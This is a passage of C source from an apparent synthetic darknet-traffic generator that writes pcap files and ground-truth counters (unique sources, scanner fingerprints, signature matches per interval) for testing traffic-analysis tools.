    for (uint64_t j = 0; j < t->n; j++) memset(t->slot + (uint64_t)t->used[j] * t->esz, 0, 4);
    t->n = 0;
}

/* one table per family: [0] IPv4, [1] IPv6 (an IPv4 and an IPv6 key never meet) */
typedef struct { tab_t t[2]; } atab_t;

static void atab_init(atab_t *a, uint32_t k4, uint32_t k6, uint32_t vsz, bool keep)
{
    tab_init(&a->t[0], k4, vsz, keep);
    tab_init(&a->t[1], k6, vsz, keep);
}
static uint64_t atab_n(const atab_t *a) { return a->t[0].n + a->t[1].n; }
static void atab_reset(atab_t *a) { tab_reset(&a->t[0]); tab_reset(&a->t[1]); }
static void atab_free(atab_t *a) { tab_free(&a->t[0]); tab_free(&a->t[1]); }

#define DP_CAP 8                /* dst_ports is capped here; one more port marks "more" */

typedef struct {
    uint64_t packets, bytes, fp[3];
    uint16_t port[DP_CAP + 1];  /* distinct destination ports, the first DP_CAP + 1 seen */
    uint8_t nport;
    uint32_t first, last;       /* first and last packet's time, Unix seconds */
} srcstat_t;

/* whole-run source entry: the UTC day it was last seen (day + 1) and the
 * fingerprints it matched on that day */
typedef struct { uint32_t day1; uint8_t bits; } runsrc_t;

typedef struct { int64_t day; uint64_t src, fp[3]; } dayrec_t;

typedef struct { const srcstat_t *s; const uint8_t *addr; int v6; } topref_t;

#define TOP_HIST 4096

typedef struct {
    atab_t src;                 /* interval: srcstat_t per source */
    atab_t ft;                  /* interval: flowtuples */
    atab_t rsrc;                /* whole run: runsrc_t per source (carries the day sets) */
    atab_t rdst;                /* whole run: the last interval (number) each destination was seen in */
    uint32_t ivno;              /* current interval's number, from 1 */
    uint64_t ivdst;             /* distinct destinations in the current interval */
    bool have_day;
    int64_t day;
    uint64_t dsrc, dfp[3];      /* current day: sources, and sources with each fingerprint */
    dayrec_t *days;
    size_t ndays, capdays;
    topref_t *top;
    size_t captop;
    uint64_t hist[TOP_HIST];    /* sources by packet count, for the top list cut */
    bool detail;                /* --source-detail: first, last and ports in top_sources */
} uq_t;

#define FT_KEY4 20              /* src 4, dst 4, sport, dport, iplen 4, proto, ttl, flags, pad */
#define FT_KEY6 44              /* src 16, dst 16, sport, dport, iplen 4, proto, ttl, flags, pad */

static void uq_init(uq_t *u)
{
    memset(u, 0, sizeof(*u));
    atab_init(&u->src, 4, 16, (uint32_t)sizeof(srcstat_t), true);
    atab_init(&u->ft, FT_KEY4, FT_KEY6, 0, true);
    atab_init(&u->rsrc, 4, 16, (uint32_t)sizeof(runsrc_t), false);
    atab_init(&u->rdst, 4, 16, (uint32_t)sizeof(uint32_t), false);
    u->ivno = 1;
}

static void uq_free(uq_t *u)
{
    atab_free(&u->src);
    atab_free(&u->ft);
    atab_free(&u->rsrc);
    atab_free(&u->rdst);
    free(u->days);
    free(u->top);
    memset(u, 0, sizeof(*u));
}

static void uq_day_flush(uq_t *u)
{
    if (!u->have_day) return;
    if (u->ndays == u->capdays) {
        u->capdays = u->capdays ? 2 * u->capdays : 16;
        u->days = realloc(u->days, u->capdays * sizeof(dayrec_t));
        if (!u->days) die_io("out of memory");
    }
    dayrec_t *d = &u->days[u->ndays++];
    d->day = u->day;
    d->src = u->dsrc;
    memcpy(d->fp, u->dfp, sizeof(d->fp));
    u->dsrc = 0;
    memset(u->dfp, 0, sizeof(u->dfp));
    u->have_day = false;
}

/* keys and hashes of one frame, computed ahead so that the table slots can
 * be prefetched while the frame is counted and written */
typedef struct {
    int v6;                     /* -1: not an IP packet */
    uint8_t ft[FT_KEY6];        /* flowtuple key */
    uint64_t hsrc, hdst, hft;
} uqkey_t;

static void uq_prep(const uq_t *u, const expect_t *e, uqkey_t *p)
{
    p->v6 = -1;
    if (e->cat != CAT_V4 && e->cat != CAT_V6) return;
    int v6 = p->v6 = e->cat == CAT_V6;
    uint32_t al = v6 ? 16 : 4;
    bool ports = e->l4 == L4_TCP || e->l4 == L4_UDP, icmp = e->l4 == L4_ICMP;
    uint8_t *k = p->ft;
    memset(k, 0, sizeof(p->ft));
    memcpy(k, e->src, al);
    memcpy(k + al, e->dst, al);
    uint8_t *q = k + 2 * al;
    /* CAIDA's flowtuple: ICMP type and code in the port fields */
    put16(q, ports ? e->sport : icmp ? e->icmp_type : 0);
    put16(q + 2, ports ? e->dport : icmp ? e->icmp_code : 0);
    put32(q + 4, e->iplen);
    q[8] = e->proto;
    q[9] = e->ttl;
    q[10] = e->l4 == L4_TCP ? e->tflags : 0;
    p->hsrc = hash_key(e->src, al);
    p->hdst = hash_key(e->dst, al);
    p->hft = hash_key(k, u->ft.t[v6].ksz);
    tab_prefetch(&u->src.t[v6], p->hsrc);
    tab_prefetch(&u->rsrc.t[v6], p->hsrc);
    tab_prefetch(&u->rdst.t[v6], p->hdst);
    tab_prefetch(&u->ft.t[v6], p->hft);
}

/* account one frame (only IP packets count; p from uq_prep) seen at ts_us
 * with captured length len */
static void uq_add(uq_t *u, const expect_t *e, const uqkey_t *p, uint32_t len, uint64_t ts_us)
{
    if (p->v6 < 0) return;
    int v6 = p->v6;
    bool isnew, ports = e->l4 == L4_TCP || e->l4 == L4_UDP;
    uint8_t fp[3] = {e->mirai, e->zmap, e->masscan};

    /* interval: per-source counters */
    tab_t *t = &u->src.t[v6];
    srcstat_t *s = (srcstat_t *)(tab_get(t, e->src, p->hsrc, &isnew) + t->voff);
    uint32_t sec = (uint32_t)(ts_us / 1000000);
    if (isnew || sec < s->first) s->first = sec;
    if (sec > s->last) s->last = sec;
    s->packets++;
    s->bytes += len;
    for (int i = 0; i < 3; i++) s->fp[i] += fp[i];
    if (ports && s->nport <= DP_CAP) {
        int j = 0;
        while (j < s->nport && s->port[j] != e->dport) j++;
        if (j == s->nport) s->port[s->nport++] = e->dport;
    }

    /* interval: flowtuple */
    tab_get(&u->ft.t[v6], p->ft, p->hft, &isnew);

    /* destination: run set, stamped with the interval it was last seen in */
    t = &u->rdst.t[v6];
    uint8_t *ivp = tab_get(t, e->dst, p->hdst, &isnew) + t->voff;
    uint32_t last;
    memcpy(&last, ivp, 4);
    if (last != u->ivno) {
        memcpy(ivp, &u->ivno, 4);
        u->ivdst++;
    }

    /* source: run set, carrying the current day's set and fingerprints */
    int64_t day = (int64_t)(ts_us / US_PER_DAY);
    if (u->have_day && day != u->day) uq_day_flush(u);
    u->have_day = true;
    u->day = day;
    t = &u->rsrc.t[v6];
    runsrc_t *r = (runsrc_t *)(tab_get(t, e->src, p->hsrc, &isnew) + t->voff);
    if (r->day1 != (uint32_t)(day + 1)) {
        r->day1 = (uint32_t)(day + 1);
        r->bits = 0;
        u->dsrc++;
    }
    for (int i = 0; i < 3; i++) {
        if (fp[i] && !(r->bits & (1u << i))) {
            r->bits |= (uint8_t)(1u << i);
            u->dfp[i]++;
        }
    }
}

/* packets desc, bytes desc, then address asc with every IPv4 before every IPv6 */
static int cmp_top(const void *pa, const void *pb)
{
    const topref_t *a = pa, *b = pb;
    if (a->s->packets != b->s->packets) return a->s->packets > b->s->packets ? -1 : 1;
    if (a->s->bytes != b->s->bytes) return a->s->bytes > b->s->bytes ? -1 : 1;
    if (a->v6 != b->v6) return a->v6 - b->v6;
    return memcmp(a->addr, b->addr, a->v6 ? 16 : 4);
}

static void put_addr(FILE *f, const uint8_t *a, int v6)
{
    if (!v6) {
        fprintf(f, "%u.%u.%u.%u", a[0], a[1], a[2], a[3]);
        return;
    }
    char buf[INET6_ADDRSTRLEN];
    if (!inet_ntop(AF_INET6, a, buf, sizeof(buf))) die_internal("inet_ntop");
    fputs(buf, f);
}

/* the interval's keys after the existing ones; then the interval state is reset */
static void uq_put_interval(FILE *f, uq_t *u, uint32_t ntop)
{
#define U(x) ((unsigned long long)(x))
    fprintf(f, ",\"unique_sources\":%llu,\"unique_destinations\":%llu,\"unique_flowtuples\":%llu,"
               "\"top_sources\":[", U(atab_n(&u->src)), U(u->ivdst), U(atab_n(&u->ft)));
    size_t n = (size_t)atab_n(&u->src);
    if (ntop && n) {
        /* Only sources with at least minp packets can be in the list: minp is
         * the largest count that at least ntop sources reach (counts capped at
         * TOP_HIST - 1 for this purpose).  Those are sorted, the rest not. */
        uint64_t minp = 0;
        if (n > ntop) {
            memset(u->hist, 0, sizeof(u->hist));
            for (int v6 = 0; v6 < 2; v6++) {
                const tab_t *t = &u->src.t[v6];
                for (uint64_t j = 0; j < t->n; j++) {
                    const srcstat_t *x = (const srcstat_t *)(t->slot + (uint64_t)t->used[j] * t->esz + t->voff);
                    u->hist[x->packets < TOP_HIST ? x->packets : TOP_HIST - 1]++;
                }
            }
            uint64_t acc = 0;
            minp = TOP_HIST;
            while (acc < ntop) acc += u->hist[--minp];
        }
        size_t m = 0;
        for (int v6 = 0; v6 < 2; v6++) {
            const tab_t *t = &u->src.t[v6];
            for (uint64_t j = 0; j < t->n; j++) {
                const uint8_t *e = t->slot + (uint64_t)t->used[j] * t->esz;
                const srcstat_t *x = (const srcstat_t *)(e + t->voff);
                if (x->packets < minp) continue;
                if (m == u->captop) {
                    u->captop = u->captop ? 2 * u->captop : 1024;
                    u->top = realloc(u->top, u->captop * sizeof(topref_t));
                    if (!u->top) die_io("out of memory");
                }
                u->top[m++] = (topref_t){x, e + 4, v6};
            }
        }
        CHECK(m >= ntop || m == n);
        qsort(u->top, m, sizeof(topref_t), cmp_top);
        n = m < ntop ? m : ntop;
        for (size_t i = 0; i < n; i++) {
            const topref_t *x = &u->top[i];
            fputs(i ? ",{\"addr\":\"" : "{\"addr\":\"", f);
            put_addr(f, x->addr, x->v6);
            fprintf(f, "\",\"packets\":%llu,\"bytes\":%llu,\"mirai\":%llu,\"zmap\":%llu,\"masscan\":%llu,"
                       "\"dst_ports\":%u,\"dst_ports_more\":%s",
                    U(x->s->packets), U(x->s->bytes), U(x->s->fp[0]), U(x->s->fp[1]), U(x->s->fp[2]),
                    x->s->nport > DP_CAP ? DP_CAP : x->s->nport, x->s->nport > DP_CAP ? "true" : "false");
            if (u->detail) {
                fprintf(f, ",\"first\":%u,\"last\":%u,\"ports\":[", x->s->first, x->s->last);
                for (unsigned k = 0; k < x->s->nport && k < DP_CAP; k++)
                    fprintf(f, "%s%u", k ? "," : "", x->s->port[k]);
                fputc(']', f);
            }
            fputc('}', f);
        }
    }
    fputc(']', f);
    atab_reset(&u->src);
    atab_reset(&u->ft);
    u->ivno++;
    CHECK(u->ivno != 0);
    u->ivdst = 0;
#undef U
}

static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)((int64_t)yoe + era * 400 + (*m <= 2));
}

/* the total line's keys after the existing ones, before "files" */
static void uq_put_total(FILE *f, uq_t *u)
{
#define U(x) ((unsigned long long)(x))
    uq_day_flush(u);
    fprintf(f, ",\"unique_sources\":%llu,\"unique_destinations\":%llu,\"days\":[", U(atab_n(&u->rsrc)),
            U(atab_n(&u->rdst)));
    for (size_t i = 0; i < u->ndays; i++) {
        const dayrec_t *d = &u->days[i];
        int y;
        unsigned m, dd;
        civil_from_days(d->day, &y, &m, &dd);
        fprintf(f, "%s{\"date\":\"%04d-%02u-%02u\",\"unique_sources\":%llu,\"mirai_unique_sources\":%llu,"
                   "\"zmap_unique_sources\":%llu,\"masscan_unique_sources\":%llu}",
                i ? "," : "", y, m, dd, U(d->src), U(d->fp[0]), U(d->fp[1]), U(d->fp[2]));
    }
    fputc(']', f);
#undef U
}

/* ------------------------------------------------------------------------ */
/* signature truth: per interval and in total                                */

typedef struct {
    uint64_t payload_packets, scanned_bytes, matched_packets;
    uint64_t pk[SIG_N];
} sigcnt_t;

#define SIG_SKEY 24             /* rule index (BE 4), family (BE 4: 0 IPv4, 1 IPv6), address (16) */
#define SIG_PKEY 8              /* rule index (BE 4), proto, port (BE 2), 0 */

typedef struct {
    sigcnt_t iv, tot;
    tab_t ivsrc;                /* interval: packets per (rule, source) */
    tab_t ivport;               /* interval: packets per (rule, proto, port) */
    tab_t rsrc;                 /* whole run: (rule, source) seen */
    tab_t rport;                /* whole run: packets per (rule, proto, port) */
    uint64_t rsrcn[SIG_N];      /* whole run: distinct sources per rule */
    /* whole run, what the traffic exercised (for the tests' own checks) */
    uint64_t decoy, off_port, short_scan, v6_matched, tcp_matched, udp_matched;
    const uint8_t **sorted;
    size_t capsorted;
} sigt_t;

static void sigt_init(sigt_t *t)
{
    memset(t, 0, sizeof(*t));
    tab_init(&t->ivsrc, SIG_SKEY, 8, true);
    tab_init(&t->ivport, SIG_PKEY, 8, true);
    tab_init(&t->rsrc, SIG_SKEY, 0, false);
    tab_init(&t->rport, SIG_PKEY, 8, false);
}

static void sigt_free(sigt_t *t)
{
    tab_free(&t->ivsrc);
    tab_free(&t->ivport);
    tab_free(&t->rsrc);
    tab_free(&t->rport);
    free(t->sorted);
    memset(t, 0, sizeof(*t));
}

static void tab_bump(tab_t *t, const uint8_t *key, uint64_t by, bool *isnew)
{
    uint8_t *e = tab_get(t, key, hash_key(key, t->ksz), isnew);
    if (t->esz > t->voff) {
        uint64_t v;
        memcpy(&v, e + t->voff, 8);
        v += by;
        memcpy(e + t->voff, &v, 8);
    }
}

/* Account one frame's payload: scanned bytes, and the rules its template
 * declared that the scan reaches and whose filter accepts the packet. */
static void sig_add(sigt_t *t, const expect_t *e)
{
    if (e->sig.decoy) t->decoy++;
    if (!e->paylen) return;
    CHECK((e->cat == CAT_V4 || e->cat == CAT_V6) && !e->frag && (e->l4 == L4_TCP || e->l4 == L4_UDP));
    uint32_t s = e->paylen < SIG_PAYLOAD_MAX ? e->paylen : SIG_PAYLOAD_MAX;
    uint8_t proto = e->l4 == L4_TCP ? 6 : 17;
    int v6 = e->cat == CAT_V6;
    int hit[SIG_ANN_MAX], nhit = 0;
    for (int i = 0; i < e->sig.n; i++) {
        const sigm_t *m = &e->sig.m[i];
        CHECK(s >= m->hi || s < m->lo);         /* never a scan ending inside [lo, hi) */
        int idx = sig_index(m->id);
        if (s < m->lo) { t->short_scan++; continue; }
        if (!sig_accepts(idx, proto, e->dport)) { t->off_port++; continue; }
        bool dup = false;
        for (int j = 0; j < nhit; j++) dup |= hit[j] == idx;
        if (!dup) hit[nhit++] = idx;
    }
    for (int w = 0; w < 2; w++) {
        sigcnt_t *c = w ? &t->tot : &t->iv;
        c->payload_packets++;
        c->scanned_bytes += s;
        c->matched_packets += nhit > 0;
        for (int j = 0; j < nhit; j++) c->pk[hit[j]]++;
    }
    if (!nhit) return;
    t->v6_matched += v6;
    t->tcp_matched += proto == 6;
    t->udp_matched += proto == 17;
    for (int j = 0; j < nhit; j++) {
        uint8_t sk[SIG_SKEY], pk[SIG_PKEY];
        bool isnew;
        memset(sk, 0, sizeof(sk));
        put32(sk, (uint32_t)hit[j]);
        put32(sk + 4, (uint32_t)v6);
        memcpy(sk + 8, e->src, v6 ? 16 : 4);
        memset(pk, 0, sizeof(pk));
        put32(pk, (uint32_t)hit[j]);
        pk[4] = proto;
        put16(pk + 5, e->dport);
        tab_bump(&t->ivsrc, sk, 1, &isnew);
        tab_bump(&t->ivport, pk, 1, &isnew);
        tab_bump(&t->rport, pk, 1, &isnew);
        tab_bump(&t->rsrc, sk, 0, &isnew);
        t->rsrcn[hit[j]] += isnew;
    }
}

static int cmp_skey(const void *a, const void *b)
{
    return memcmp(*(const uint8_t *const *)a + 4, *(const uint8_t *const *)b + 4, SIG_SKEY);
}

static int cmp_pkey(const void *a, const void *b)
{
    return memcmp(*(const uint8_t *const *)a + 4, *(const uint8_t *const *)b + 4, SIG_PKEY);
}

/* a table's occupied slots, sorted by key; returns how many */
static size_t sig_sorted(sigt_t *t, const tab_t *tb, int (*cmp)(const void *, const void *))
{
    if (t->capsorted < tb->n) {
        t->capsorted = tb->n;
        free(t->sorted);
        t->sorted = malloc(t->capsorted * sizeof(*t->sorted));
        if (!t->sorted) die_io("out of memory");
    }
    size_t m = 0;
    if (tb->used) {
        for (uint64_t j = 0; j < tb->n; j++) t->sorted[m++] = tb->slot + (uint64_t)tb->used[j] * tb->esz;
    } else {
        for (uint64_t i = 0; i < tb->cap; i++) {
            uint32_t tg;
            memcpy(&tg, tb->slot + i * tb->esz, 4);
            if (tg) t->sorted[m++] = tb->slot + i * tb->esz;
        }
    }
    CHECK(m == tb->n);
    if (m > 1) qsort(t->sorted, m, sizeof(*t->sorted), cmp);
    return m;
}

static uint32_t key_rule(const uint8_t *slot)
{
    const uint8_t *k = slot + 4;
    return (uint32_t)k[0] << 24 | (uint32_t)k[1] << 16 | (uint32_t)k[2] << 8 | k[3];
}

static uint64_t slot_u64(const tab_t *tb, const uint8_t *slot)
{
    uint64_t v;
    memcpy(&v, slot + tb->voff, 8);
    return v;
}

/* ,"signatures":{...},"signature_scan":{...}; interval: sources by address,
 * then the interval state is reset; total: distinct sources per rule */
static void sig_put(FILE *f, sigt_t *t, bool total)
{
#define U(x) ((unsigned long long)(x))
    const sigcnt_t *c = total ? &t->tot : &t->iv;
    const tab_t *ts = &t->ivsrc, *tp = total ? &t->rport : &t->ivport;
    /* ports first (the sorted array is reused for the sources) */
    size_t np = sig_sorted(t, tp, cmp_pkey);
    char (*ports)[40] = NULL;
    uint32_t *prule = NULL;
    if (np) {
        ports = malloc(np * sizeof(*ports));
        prule = malloc(np * sizeof(*prule));
        if (!ports || !prule) die_io("out of memory");
    }
    for (size_t i = 0; i < np; i++) {
        const uint8_t *k = t->sorted[i] + 4;
        prule[i] = key_rule(t->sorted[i]);
        snprintf(ports[i], sizeof(ports[i]), "\"%s/%u\":%llu", k[4] == 6 ? "tcp" : "udp", (unsigned)(k[5] << 8 | k[6]),
                 U(slot_u64(tp, t->sorted[i])));
    }
    size_t ns = total ? 0 : sig_sorted(t, ts, cmp_skey);
    fputs(",\"signatures\":{", f);
    size_t ip = 0, is = 0;
    bool first = true;
    for (uint32_t x = 0; x < SIG_N; x++) {
        if (!c->pk[x]) {
            CHECK(ip >= np || prule[ip] != x);
            continue;
        }
        const sigrule_t *sr = &sig_rules[x];
        fprintf(f, "%s\"%u\":{\"name\":\"%s\",\"family\":\"%s\",\"packets\":%llu,\"sources\":", first ? "" : ",",
                sr->id, sr->name, sr->family, U(c->pk[x]));
        first = false;
        if (total) {
            fprintf(f, "%llu", U(t->rsrcn[x]));
        } else {
            fputc('{', f);
            uint64_t sum = 0;
            for (bool f1 = true; is < ns && key_rule(t->sorted[is]) == x; is++, f1 = false) {
                const uint8_t *k = t->sorted[is] + 4;
                uint64_t v = slot_u64(ts, t->sorted[is]);
                fputs(f1 ? "\"" : ",\"", f);
                put_addr(f, k + 8, k[7]);
                fprintf(f, "\":%llu", U(v));
                sum += v;
            }
            CHECK(sum == c->pk[x]);
            fputc('}', f);
        }
        fputs(",\"ports\":{", f);
        for (bool f1 = true; ip < np && prule[ip] == x; ip++, f1 = false) fprintf(f, "%s%s", f1 ? "" : ",", ports[ip]);
        fputs("}}", f);
    }
    CHECK(ip == np && is == ns);
    fprintf(f, "},\"signature_scan\":{\"payload_packets\":%llu,\"scanned_bytes\":%llu,\"matched_packets\":%llu}",
            U(c->payload_packets), U(c->scanned_bytes), U(c->matched_packets));
    if (total)
        fprintf(f, ",\"signature_checks\":{\"decoy_packets\":%llu,\"off_port\":%llu,\"short_scan\":%llu,"
                   "\"ipv6_matched\":%llu,\"tcp_matched\":%llu,\"udp_matched\":%llu}",
                U(t->decoy), U(t->off_port), U(t->short_scan), U(t->v6_matched), U(t->tcp_matched),
                U(t->udp_matched));
    free(ports);
    free(prule);
    if (!total) {
        tab_reset(&t->ivsrc);
        tab_reset(&t->ivport);
        memset(&t->iv, 0, sizeof(t->iv));
    }
#undef U
}

/* ------------------------------------------------------------------------ */
/* pcap output                                                               */

typedef struct {
    const char *path;
    FILE *f;
    uint8_t *buf;
    size_t n, cap;
    uint64_t packets, bytes;
} pcapw_t;

static void pw_flush(pcapw_t *w)
{
    if (w->n && fwrite(w->buf, 1, w->n, w->f) != w->n) die_io("write %s: %s", w->path, strerror(errno));
    w->n = 0;
}

static void pw_open(pcapw_t *w, const char *path, size_t cap)
{
    memset(w, 0, sizeof(*w));
    w->path = path;
    w->f = fopen(path, "wb");
    if (!w->f) die_io("cannot open %s: %s", path, strerror(errno));
    w->cap = cap;
    w->buf = malloc(cap);
    if (!w->buf) die_io("out of memory");
    uint8_t *h = w->buf;
    le32(h, 0xa1b2c3d4); le16(h + 4, 2); le16(h + 6, 4);
    le32(h + 8, 0); le32(h + 12, 0); le32(h + 16, 65535); le32(h + 20, 1);
    w->n = 24;
}

static void pw_write(pcapw_t *w, uint64_t ts_us, const uint8_t *p, size_t len, size_t wire)
{
    if (w->n + 16 + len > w->cap) pw_flush(w);
    uint8_t *h = w->buf + w->n;
    le32(h, (uint32_t)(ts_us / 1000000)); le32(h + 4, (uint32_t)(ts_us % 1000000));
    le32(h + 8, (uint32_t)len); le32(h + 12, (uint32_t)wire);
    memcpy(h + 16, p, len);
    w->n += 16 + len;
    w->packets++;
    w->bytes += len;
}

static void pw_close(pcapw_t *w)
{
    pw_flush(w);
    if (fclose(w->f) != 0) die_io("close %s: %s", w->path, strerror(errno));
    free(w->buf);
}

/* ------------------------------------------------------------------------ */
/* time shape: diurnal curve, day factors, scan waves                        */

typedef struct {
    double center_us, sigma_us, amp;   /* relative to run start */
    uint32_t src_idx;
    int port;
    bool sweep;             /* multi-port scanner: each packet's port drawn anew */
} wave_t;

typedef struct {
    uint64_t start_us, span_us, nbins;
    int ndays;
    double *dayf;
    wave_t *waves;           /* waves of day d at [d*3, d*3 + nw[d]) */
    uint8_t *nw;
    uint64_t seed;
} shape_t;

static double hash01(uint64_t seed, uint64_t x) { return (double)(mix64(seed ^ mix64(x)) >> 11) * 0x1.0p-53; }

static void shape_init(shape_t *sh, uint64_t seed, uint64_t start_us, uint64_t span_us, uint32_t nsrc)
{
    rng_t r;
    rng_seed(&r, seed, 2);
    sh->start_us = start_us;
    sh->span_us = span_us;
    sh->nbins = (span_us + BIN_US - 1) / BIN_US;
    sh->ndays = (int)((span_us + US_PER_DAY - 1) / US_PER_DAY);
    sh->seed = mix64(seed ^ 0xabcdef);
    sh->dayf = calloc((size_t)sh->ndays, sizeof(double));
    sh->nw = calloc((size_t)sh->ndays, 1);
    sh->waves = calloc((size_t)sh->ndays * 3, sizeof(wave_t));
    if (!sh->dayf || !sh->nw || !sh->waves) die_io("out of memory");
    bool any = false;
    for (int d = 0; d < sh->ndays; d++) {
        sh->dayf[d] = 0.8 + 0.4 * r01(&r);
        if (rchance(&r, 0.3)) { sh->nw[d] = (uint8_t)rrange(&r, 1, 3); any = true; }
    }
    if (!any) sh->nw[rbelow(&r, (uint32_t)sh->ndays)] = (uint8_t)rrange(&r, 1, 2);
    static const wv_t wports[] = {{23, 20}, {22, 15}, {445, 10}, {6379, 10}, {3389, 10}, {5555, 5},
                                  {8080, 8}, {2375, 4}, {7547, 4}, {9200, 4}, {65536, 10}};
    for (int d = 0; d < sh->ndays; d++) {
        for (int i = 0; i < sh->nw[d]; i++) {
            wave_t *w = &sh->waves[d * 3 + i];
            double dayspan = (double)US_PER_DAY;
            double dstart = (double)d * dayspan;
            double rem = (double)span_us - dstart;
            if (rem < dayspan) dayspan = rem;
            w->center_us = dstart + r01(&r) * dayspan;
            w->sigma_us = (10.0 + 50.0 * r01(&r)) * 60e6;
            w->amp = 1.0 + 3.0 * r01(&r);
            w->src_idx = rbelow(&r, nsrc);
            w->port = (int)port_from(&r, WPICK(&r, wports));
        }
    }
    /* About half of the waves sweep many ports (at least one per run does), so
     * some sources reach more than 8 distinct ports in an interval.  Decided by
     * hashing, not by r, so the other wave parameters stay as they were. */
    wave_t *first = NULL;
    bool sweep = false;
    for (int d = 0; d < sh->ndays; d++) {
        for (int i = 0; i < sh->nw[d]; i++) {
            wave_t *w = &sh->waves[d * 3 + i];
            w->sweep = hash01(sh->seed ^ 0x5377656570ull, (uint64_t)d * 3 + (uint64_t)i) < SWEEP_SHARE;
            sweep |= w->sweep;
            if (!first) first = w;
        }
    }
    if (!sweep) {
        CHECK(first);
        first->sweep = true;
    }
}

/* weight of bin b: base (diurnal) part and wave parts (wc[0..*nwc)) */
static double bin_weight(const shape_t *sh, uint64_t b, double *base, double *wc, const wave_t **wv, int *nwc)
{
    double t0 = (double)(b * BIN_US);
    double width = (double)((b + 1) * BIN_US > sh->span_us ? sh->span_us - b * BIN_US : BIN_US);
    double tc = t0 + width / 2;
    uint64_t abs_s = (sh->start_us + b * BIN_US + (uint64_t)(width / 2)) / 1000000;
    double hour = (double)(abs_s % 86400) / 3600.0;
    int d = (int)(b * BIN_US / US_PER_DAY);
    double df = sh->dayf[d];
    double noise = 0.85 + 0.3 * hash01(sh->seed, b);
    double bw = df * (1.0 + 0.35 * cos(2 * M_PI * (hour - 15.0) / 24.0)) * noise;
    double tot = bw;
    int n = 0;
    for (int dd = d - 1; dd <= d + 1; dd++) {
        if (dd < 0 || dd >= sh->ndays) continue;
        for (int i = 0; i < sh->nw[dd]; i++) {
            const wave_t *w = &sh->waves[dd * 3 + i];
            double z = (tc - w->center_us) / w->sigma_us;
            if (z < -5 || z > 5) continue;
            double c = df * w->amp * exp(-0.5 * z * z);
            wc[n] = c;
            wv[n] = w;
            n++;
            tot += c;
        }
    }
    *nwc = n;
    *base = bw;
    return tot * (width / (double)BIN_US);
}

/* ------------------------------------------------------------------------ */
/* command line                                                              */

typedef struct {
    char *outs[MAX_FILES];
    int nout;
    const char *truth;
    uint64_t seed;
    int64_t start;
    double days;
    uint64_t packets;
    uint64_t interval;
    bool split_rr;
    bool no_edge;
    uint32_t top;
    bool many_sources;
    bool source_detail;
    bool no_jumbo;
    double payload_share;
} cfg_t;

static const char usage_text[] =
    "usage: darkcap-gen --out FILE.pcap[,FILE2.pcap...] --truth FILE.jsonl [options]\n"
    "\n"
    "Deterministic darknet traffic generator: writes classic pcap files and a\n"
    "JSON Lines ground-truth file with the counters per interval and in total.\n"
    "\n"
    "  --out LIST         comma separated pcap output files (the stream is split across them)\n"
    "  --truth FILE       truth output (JSON Lines)\n"
    "  --seed N           PRNG seed (default 1)\n"
    "  --start TIME       UTC start, YYYY-MM-DDTHH:MM:SSZ (default 2022-04-01T00:00:00Z)\n"
    "  --days D           duration in days, may be fractional (default 1)\n"
    "  --packets N        number of frames (default 100000)\n"
    "  --interval S       truth interval in whole seconds (default 60)\n"
    "  --split rr|src     split across files round robin or by source address (default src)\n"
    "  --no-edge          omit malformed / edge-case frames\n"
    "  --no-jumbo         no UDP frames over 1514 bytes (1 in 2000 UDP probes otherwise), for\n"
    "                     senders and links with a 1500-byte MTU\n"
    "  --source-detail    top_sources entries also carry first, last (Unix seconds) and ports\n"
    "                     (the first 8 distinct TCP/UDP destination ports, in arrival order)\n"
    "  --top N            sources listed per interval in top_sources (default 100, 0..100000)\n"
    "  --many-sources     draw every packet's source uniformly from a pool of max(packets, 3000)\n"
    "                     addresses (at most 16000000), so distinct sources can exceed a table\n"
    "  --payload-share F  share (0..1) of the frames other than edge cases that carry a signature\n"
    "                     payload: HTTP exploit requests and downloaders over TCP, UDP probes over\n"
    "                     IPv4 and IPv6, decoys, some cut by the capture or by a short IP length\n"
    "                     (default 0.015); the base mix's UDP probes carry signatures too\n"
    "  --help             show this help\n"
    "\n"
    "Truth keys for payload signatures (default rules, sig_payload_max 1024), per interval:\n"
    "  \"signatures\": {\"ID\": {\"name\", \"family\", \"packets\": N, \"sources\": {\"ADDR\": N, ...},\n"
    "                 \"ports\": {\"udp/5060\": N, ...}}, ...}   (only rules with packets)\n"
    "  \"signature_scan\": {\"payload_packets\": P, \"scanned_bytes\": B, \"matched_packets\": M}\n"
    "and in the total line the same with \"sources\" a distinct count over the run, plus\n"
    "  \"signature_checks\": {\"decoy_packets\", \"off_port\", \"short_scan\", \"ipv6_matched\",\n"
    "                       \"tcp_matched\", \"udp_matched\"}   (what the traffic exercised)\n";

static bool parse_u64(const char *s, uint64_t *v)
{
    if (!*s || *s == '-' || *s == '+' || *s == ' ') return false;
    char *end;
    errno = 0;
    int base = (s[0] == '0' && (s[1] == 'x' || s[1] == 'X')) ? 16 : 10;
    unsigned long long x = strtoull(s, &end, base);
    if (errno || *end || end == s) return false;
    *v = x;
    return true;
}

static int64_t days_from_civil(int64_t y, unsigned m, unsigned d)
{
    y -= m <= 2;
    int64_t era = (y >= 0 ? y : y - 399) / 400;
    unsigned yoe = (unsigned)(y - era * 400);
    unsigned doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
    unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + (int64_t)doe - 719468;
}

static bool parse_time(const char *s, int64_t *out)
{
    int y, mo, d, h, mi, se, n = 0;
    if (strlen(s) != 20) return false;
    for (int i = 0; i < 20; i++) {
        char c = s[i];
        bool digit = c >= '0' && c <= '9';
        if (i == 4 || i == 7) { if (c != '-') return false; }
        else if (i == 10) { if (c != 'T') return false; }
        else if (i == 13 || i == 16) { if (c != ':') return false; }
        else if (i == 19) { if (c != 'Z') return false; }
        else if (!digit) return false;
    }
    if (sscanf(s, "%4d-%2d-%2dT%2d:%2d:%2dZ%n", &y, &mo, &d, &h, &mi, &se, &n) != 6 || n != 20) return false;
    static const int mdays[12] = {31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
